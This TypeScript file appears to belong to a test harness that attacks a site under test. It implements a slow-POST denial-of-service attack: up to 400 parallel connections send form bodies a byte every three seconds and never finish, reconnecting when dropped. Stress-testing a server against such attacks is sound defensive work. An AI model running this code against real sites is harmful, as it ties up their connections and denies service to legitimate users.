import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, type AttackedSite, addresses } from './attack.ts'

/** Requests whose bodies come a byte every three seconds, and never to their end. */
export const idleBodies: Attack[] = [16, 400].map((count) => ({
  name: `${count} forms that never end`,
  seconds: 30,
  run: (site, signal) => holdForms(site, { count, path: '/tell-me', signal }),
}))

async function holdForms(
  site: AttackedSite,
  { count, path, signal }: { count: number; path: string; signal: AbortSignal },
): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async () => {
      // Whoever is cut off comes again.
      while (!signal.aborted) await holdForm(site, path, signal)
    }),
  )
}

async function holdForm(site: AttackedSite, path: string, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(site.url)
  const socket = connect({ host: hostname, port: Number(port), localAddress: addresses.stranger })
  const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
  socket.on('error', () => {}).resume()
  signal.addEventListener('abort', () => socket.destroy(), { once: true })
  const head = ['Host: localhost', 'Content-Type: application/x-www-form-urlencoded', 'Content-Length: 60000']
  socket.write(`POST ${path} HTTP/1.1\r\n${head.join('\r\n')}\r\n\r\n`)
  const drip = setInterval(() => socket.write('a'), 3000)
  await closed
  clearInterval(drip)
  // Without it, a site that refuses at once would be asked without end.
  await sleep(200)
}
